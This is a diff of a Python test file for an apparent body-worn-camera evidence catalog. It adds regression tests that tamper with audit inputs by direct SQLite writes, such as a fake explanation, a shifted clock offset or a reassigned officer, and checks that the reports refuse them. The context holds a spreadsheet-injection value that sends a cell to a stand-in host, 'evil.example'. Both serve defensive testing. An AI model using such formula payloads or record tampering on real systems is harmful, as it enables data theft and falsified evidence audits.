@@ -103,6 +103,9 @@ def city(bwc, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-de
             (None, None, "2026-10-20T10:00:00", "2026-10-20T10:30:00", 1),
         ],
     )
+    # clock checks are audit inputs: recorded through bwc, so the custody log has them
+    r = bwc("devices", "clock", "DSJ0100", "--offset", "+30s", "--at", "2026-10-15T18:00:00+08:00")
+    assert r.code == 0, r.err
     with station(home).session() as s:
         s.add(  # a file with no recorded time, ingested in October
             Item(
@@ -114,14 +117,6 @@ def city(bwc, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-de
                 station_id="st-test",
                 original_path="GPS0001.csv",
                 ingested_at=local("2026-10-15T20:00:00"),
-            )
-        )
-        s.add(
-            DeviceClock(
-                device_id="DSJ0100",
-                offset_ms=30_000,
-                measured_at=local("2026-10-15T18:00:00"),
-                recorded_by="test",
             )
         )
 
@@ -351,3 +346,103 @@ def test_csv_report_cells_never_run_as_formulas(bwc, home: Path, tmp_path: Path)
     assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
     assert (row["unit"], row["county"]) == ("'=UNIT()", "'-3+2")
     assert (row["cases"], row["none"], row["full_rate"]) == ("1", "1", "0.0000")
+
+
+# ------------------------------------------------------------------ inputs against the log
+
+TAMPER_INPUTS = {
+    # an explanation nobody gave: the pair now counts as explained
+    "explanations": "INSERT INTO explanation (case_id, officer_id, reason, actor, station_id, at)"
+    " VALUES ('C1', '110024', 'battery', 'x', 'st-test', '2026-10-16 00:00:00.000000')",
+    # a clock check moved: the ledger-attributed clip now covers more of C1
+    "clocks": "UPDATE device_clock SET offset_ms = 200000",
+    "officers": "UPDATE officer SET unit = '城西中队' WHERE officer_id = '110023'",
+    "cases": "UPDATE enforcement_case SET \"end\" = '2026-10-15 01:35:00.000000'"
+    " WHERE case_id = 'C1'",
+    "case officers": "DELETE FROM case_officer WHERE case_id = 'C1' AND officer_id = '110024'",
+    "assignments": "UPDATE assignment SET officer_id = '110023' WHERE device_id = 'DSJ0100'"
+    " AND officer_id = '110024'",
+}
+
+
+def sql(home: Path, query: str) -> None:
+    import contextlib
+    import sqlite3
+
+    with contextlib.closing(sqlite3.connect(home / "catalog.sqlite")) as con, con:
+        assert con.execute(query).rowcount >= 1, query
+
+
+@pytest.mark.parametrize("table", list(TAMPER_INPUTS))
+def test_report_refuses_inputs_changed_outside_bwc(
+    bwc,  # type: ignore[no-untyped-def]
+    home: Path,
+    tmp_path: Path,
+    table: str,
+) -> None:
+    """Regression (issue 12 #11): an explanation or a clock offset written with sqlite3
+    changed the audit report while `bwc log verify` passed. Every input bwc records is in
+    the custody log; the report checks them first and refuses, naming the table."""
+    city(bwc, home, tmp_path)
+    r = bwc("audit", "explain", "C3", "110023", "--reason", "storage full")
+    assert r.code == 0, r.err
+    before = bwc("audit", "report", "--month", "2026-10", "--format", "json")
+    assert before.code == 0, before.err
+
+    sql(home, TAMPER_INPUTS[table])
+    assert bwc("log", "verify").code == 0  # the log itself is untouched
+    name = "cases" if table == "case officers" else table
+    for args in (("report", "--month", "2026-10", "--format", "csv"), ("case", "C1")):
+        r = bwc("audit", *args)
+        assert r.code == 1, (args, r.out, r.err)
+        assert r.out == "" and "inputs do not verify" in r.err and f"{name}:" in r.err, r.err
+        assert "Traceback" not in r.err
+    r = bwc("audit", "verify")
+    assert r.code == 1 and f"FAIL {name}: " in r.out, r.out
+
+    # reported anyway only when asked, and then loudly
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "json", "--allow-unverified")
+    assert r.code == 0, r.err
+    data = json.loads(r.out)
+    assert any(u.startswith(f"{name}:") for u in data["unverified_inputs"])
+    assert any(w.startswith("UNVERIFIED INPUT") for w in data["warnings"])
+    assert "UNVERIFIED INPUT" in r.err
+
+
+def test_seal_logs_the_inputs_of_an_older_catalog(bwc, home: Path, tmp_path: Path) -> None:
+    """Rows from before inputs were logged (written here straight to the catalog) are
+    unverified until `bwc audit seal` logs them once; after it, a change is detected."""
+    city(bwc, home, tmp_path)
+    with station(home).session() as s:
+        s.add(
+            DeviceClock(
+                device_id="DSJ0042",
+                offset_ms=-2000,
+                measured_at=local("2026-10-14T18:00:00"),
+                recorded_by="before-upgrade",
+            )
+        )
+        s.add(
+            Explanation(
+                case_id="C1",
+                officer_id="110024",
+                reason="old",
+                actor="a",
+                station_id="st-test",
+                at=local("2026-10-16T09:00:00"),
+            )
+        )
+    r = bwc("audit", "report", "--month", "2026-10")
+    assert r.code == 1 and "clocks: 1 row(s)" in r.err and "explanations: 1 row(s)" in r.err
+    r = bwc("audit", "seal", "--json")
+    assert r.code == 0, r.err
+    sealed = json.loads(r.out)
+    assert sealed["clocks"]["added"] == 1 and sealed["explanations"]["added"] == 1
+    assert sealed["officers"] == {"added": 0, "changed": 0, "removed": 0}
+    r = bwc("audit", "report", "--month", "2026-10", "--format", "json")
+    assert r.code == 0 and json.loads(r.out)["unverified_inputs"] == [], r.err
+    assert bwc("audit", "verify").code == 0
+    assert bwc("log", "verify").code == 0
+    sql(home, "UPDATE explanation SET reason = 'edited' WHERE reason = 'old'")
+    r = bwc("audit", "report", "--month", "2026-10")
+    assert r.code == 1 and "explanations: 1 row(s)" in r.err, r.err
